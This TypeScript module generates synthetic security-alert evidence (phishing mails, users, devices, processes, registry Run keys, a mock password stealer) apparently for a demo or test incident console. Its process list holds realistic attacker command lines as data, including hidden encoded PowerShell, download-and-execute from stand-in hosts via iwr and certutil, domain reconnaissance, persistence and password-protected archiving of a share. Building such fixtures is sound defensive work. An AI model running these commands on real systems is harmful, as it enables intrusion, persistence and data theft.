import type { Wire } from './contract.ts';
import { deviceName, externalIp, externalIp6, person } from './directory.ts';
import type { Group, Person } from './directory.ts';
import {
  app,
  azure,
  device,
  file,
  ip,
  logonRequest,
  mail,
  mailbox,
  mailCluster,
  malware,
  oauthApp,
  process,
  registryKey,
  registryValue,
  session,
  url,
  user,
} from './parts.ts';
import { hash, pick } from './random.ts';
import { MONSTER } from './shapes.ts';

/** Where a generated alert stands; `entity(salt, k)` is the hash of the incident's k-th thing of a sort. */
export interface Spot {
  readonly ms: number;
  readonly h: (salt: number) => number;
  readonly entity: (salt: number, k: number) => number;
  readonly device: (k: number) => string;
}

export function deviceOf(seed: number, row: number, slot: number): string {
  return deviceName(deviceGroup(seed, row, slot), hash(seed, row, 4_000 + slot));
}

/** Most incidents touch devices of one group; three in four further devices share the group of the first. */
export function deviceGroup(seed: number, row: number, slot: number): Group {
  if (slot > 0 && hash(seed, row, 5_000 + slot) % 4) return deviceGroup(seed, row, 0);
  return hash(seed, row, 6_000 + slot) % 9 < 2 ? 'B' : 'A';
}

const U = 'C:\\Users\\Public\\';
const S = 'C:\\Windows\\System32\\';
const PS = `${S}WindowsPowerShell\\v1.0\\powershell.exe`;
const EXPLORER = 'C:\\Windows\\explorer.exe';
const OUTLOOK = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';
const PROCESSES: readonly (readonly [string, string, string])[] = [
  [PS, 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAC4ALgAuACkA', `${S}cmd.exe`],
  [PS, 'powershell -c "iwr https://cdn-updates.example/a.ps1 -UseBasicParsing | iex"', EXPLORER],
  [`${S}cmd.exe`, 'cmd.exe /c whoami /all & net group "Domain Admins" /domain', PS],
  [`${S}net.exe`, 'net view /all /domain', `${S}cmd.exe`],
  [`${S}nltest.exe`, 'nltest /dclist:corp.halden.example', `${S}cmd.exe`],
  [`${S}mshta.exe`, 'mshta https://verify-human.test/check?id=<b>7</b>', EXPLORER],
  [`${S}rundll32.exe`, `rundll32.exe ${U}mapi64.dll,#1`, `${S}svchost.exe`],
  [`${S}wscript.exe`, 'wscript.exe "C:\\Users\\Public\\Downloads\\Order & delivery (2).js"', OUTLOOK],
  [`${S}schtasks.exe`, `schtasks /create /sc onlogon /tn "Printer sync" /tr ${U}prnsync.exe`, `${S}cmd.exe`],
  [`${S}reg.exe`, `reg add HKLM\\Software\\Policies /v Start /t REG_SZ /d ${U}start.cmd /f`, `${S}cmd.exe`],
  [`${S}certutil.exe`, 'certutil -urlcache -f http://198.51.100.77/t.txt t.exe', `${S}cmd.exe`],
  ['C:\\Program Files\\Northlight\\nlsync.exe', '"nlsync.exe" --profile default --quiet', `${S}services.exe`],
  ['C:\\Program Files\\7-Zip\\7z.exe', '7z a -mx1 -pSpring2026 out.7z D:\\Shares\\Projects', `${S}cmd.exe`],
];

const FILES = [
  'Downloads\\Invoice_2026-05.iso',
  'Downloads\\Order & delivery (2).js',
  'mapi64.dll',
  'Downloads\\setup_northlight_9.4.exe',
  'Documents\\Lønnsliste Q2 (konfidensiell).xlsx',
  'Documents\\Customer list – Benelux.csv',
  'Documents\\設計図_第3版.pdf',
  'Downloads\\paperboat-sign.html',
  'prnsync.exe',
  'Documents\\Board minutes 2026-04.docx',
  'Downloads\\scan_0042.zip',
  'Documents\\Prices “final” v7.xlsx',
];
const HOSTS = [
  'login-check.test',
  'cdn-updates.example',
  'parcel-status.example',
  'files.paperboat-sign.test',
  'verify-human.test',
  'sso.halden-portal.test',
  'survey.greenleaf.example',
  'invoices.brightway.example',
];
const SUBJECTS = [
  'Your parcel is waiting',
  'Reminder: invoice 30418 is overdue',
  'Password expires today',
  'RE: RE: Delivery terms',
  'Voice message (0:42)',
  'Shared with you: Salary review.xlsx',
  'Wichtig: Ihre Rechnung Nr. 7731',
  'ご請求書の確認のお願い',
  'Bonus list – please check before Friday!',
  '=SUM(1+1) updated price list',
  'Aviso: actualización de su cuenta',
];
const APPS = [
  'SharePoint Online',
  'Exchange Online',
  'OneDrive for Business',
  'Teams',
  'Northlight CRM',
  'Paperboat Sign',
  'Entra admin portal',
];
const OAUTH: readonly (readonly [string, string])[] = [
  ['Calendar Helper Pro', 'Sunrise Tools'],
  ['PDF Merge for Mail', 'Unverified'],
  ['Halden HR connector', 'Halden Group'],
];
const AGENTS: readonly (readonly [string, string, string])[] = [
  ['Edge 138', 'Windows 11', ''],
  ['Chrome 137', 'Android 15', ''],
  ['Safari 18', 'iOS 18', ''],
  ['Firefox 139', 'Linux', ''],
];
const RUN_KEY = 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run';

/** A verdict and what was done, in the shares that GUIDE shows among rows that have one. */
function mark(h: number): string {
  const share = h % 100;
  if (share < 35) return 'u-';
  return share < 75 ? pick(['sa', 's-', 'sq'], h >>> 8) : share < 88 ? pick(['mr', 'mp', 'ma'], h >>> 8) : 'n-';
}

export function address(h: number): string {
  return h % 8 === 7 ? externalIp6(h >>> 3) : externalIp(h >>> 3);
}

function link(h: number): string {
  return `https://${pick(HOSTS, h)}/${pick(['a', 'doc', 'in', 'track', 'v2/login'], h >>> 5)}/${(h >>> 9).toString(36)}`;
}

const folk = (s: Spot, k: number): Person => person(s.entity(1, k));

function message(s: Spot, k: number): Wire {
  const h = s.entity(2, k);
  const host = pick(HOSTS, h);
  return mail(
    {
      subject: pick(SUBJECTS, h >>> 3),
      from: `${pick(['billing', 'no-reply', 'team', 'k.larsen'], h >>> 7)}@${host}`,
      fromName: pick(['Accounts', 'Service desk', 'Parcel Status', 'K. Larsen'], h >>> 7),
      to: folk(s, k),
      senderIp: address(s.entity(3, 0)),
      at: s.ms - 60_000 * (2 + (h % 90)),
      delivered: pick(
        [
          ['Delivered', 'Inbox'],
          ['DeliveredAsSpam', 'JunkFolder'],
          ['Blocked', 'Quarantine'],
        ],
        h >>> 11,
      ),
      threats: [pick(['NormalPhish', 'HighConfPhish', 'Malware', 'Spam'], h >>> 13)],
      methods: [pick(['URLDetonationReputation', 'FileReputation', 'Fingerprinting', 'MixedAnalysis'], h >>> 15)],
      urls: [link(s.entity(4, k))],
    },
    mark(h),
  );
}

/** Evidence by recipe letter: the k-th of its sort in the alert. */
const MAKERS: Readonly<Record<string, (s: Spot, k: number) => Wire>> = {
  U: (s, k) => user(folk(s, k), k ? 'u-' : `${mark(s.h(11))} compromised`),
  I: (s, k) => ip(address(s.entity(3, k)), mark(s.entity(3, k) >>> 2)),
  M: message,
  X: (s, k) => url(link(s.entity(4, k)), mark(s.entity(4, k) >>> 1)),
  C: (s, k) => {
    const h = s.entity(2, k);
    const by = pick(['Subject', 'SenderIp', 'BodyFingerprintBin1', 'P2SenderDomain'], h >>> 4);
    const value = by === 'Subject' ? pick(SUBJECTS, h >>> 3) : by === 'SenderIp' ? address(h) : pick(HOSTS, h);
    return mailCluster(by, value, 1 + (h % 60), mark(h >>> 3));
  },
  B: (s, k) => mailbox(folk(s, k), mark(s.h(12 + k))),
  F: (s, k) => file(U + pick(FILES, s.entity(5, k)), s.device(0), mark(s.entity(5, k) >>> 4)),
  P: (s, k) => process(pick(PROCESSES, s.entity(6, k)), s.device(0), s.ms - k * 20_000, mark(s.h(20 + k)), folk(s, 0)),
  D: (s, k) => device(s.device(k), `${mark(s.h(30 + k))} compromised/Main device`, folk(s, k)),
  L: (s, k) => logonRequest(`${s.h(40 + k)}`, mark(s.h(41 + k))),
  S: (s, k) => session(folk(s, k), s.ms - 90_000, pick(AGENTS, s.h(50 + k))),
  A: (s, k) => app(pick(APPS, s.entity(7, k))),
  R: (_s, _k) => registryKey('HKEY_LOCAL_MACHINE', RUN_KEY, 's-'),
  V: (s, k) => registryValue(RUN_KEY, `Sync${s.entity(8, k) % 90}`, `${U}prnsync.exe`, s.device(0), mark(s.h(60))),
  O: (s, k) => oauthApp(...pick(OAUTH, s.entity(9, k)), mark(s.h(61))),
  W: (s) => malware('Harrow', 'PasswordStealer', [file(`${U}prnsync.exe`, s.device(0), 'mr')], [], 'mr'),
  Z: (s, k) =>
    azure(`vm-batch-${(s.entity(10, k) % 40) + 1}`, 'Microsoft.Compute/virtualMachines', mark(s.entity(10, k))),
};

/** `count` rows of evidence by a recipe: its head once, then what follows the bar over and over. */
export function evidenceOf(recipe: string, count: number, s: Spot): Wire[] {
  const [head = '', tail = head] = recipe.split('|');
  const seen: Record<string, number> = {};
  return Array.from({ length: count }, (_, i) => {
    const letter = i < head.length ? head[i]! : tail[(i - head.length) % tail.length]!;
    const k = (seen[letter] ??= 0);
    seen[letter]!++;
    return MAKERS[letter]!(s, k);
  });
}

/** Four rows of the monster incident: 5,000 accounts and 4,600 addresses over 3,000 alerts, each named once. */
export function monsterEvidence(n: number, s: Spot): Wire[] {
  const first = Math.floor(n / 3) * 5 + (n % 3) * 2;
  const users = n % 3 < 2 ? 2 : 1;
  const ips = n < MONSTER.doubleIps ? 2 : 1;
  const firstIp = n + Math.min(n, MONSTER.doubleIps);
  const rows = Array.from({ length: users }, (_, i) => user(person(first + i), 'sa attacked'));
  for (let i = firstIp; i < firstIp + ips; i++)
    rows.push(
      ip(i < 762 ? externalIp(i) : i < 1_400 ? `10.60.${i >> 7}.${(i & 127) + 1}` : externalIp6(i), 'sa attacker'),
    );
  const rest = ['L', 'D', 'A', 'S'];
  for (let i = 0; rows.length < 4; i++) rows.push(MAKERS[rest[(n + i) % 4]!]!(s, i));
  return rows;
}
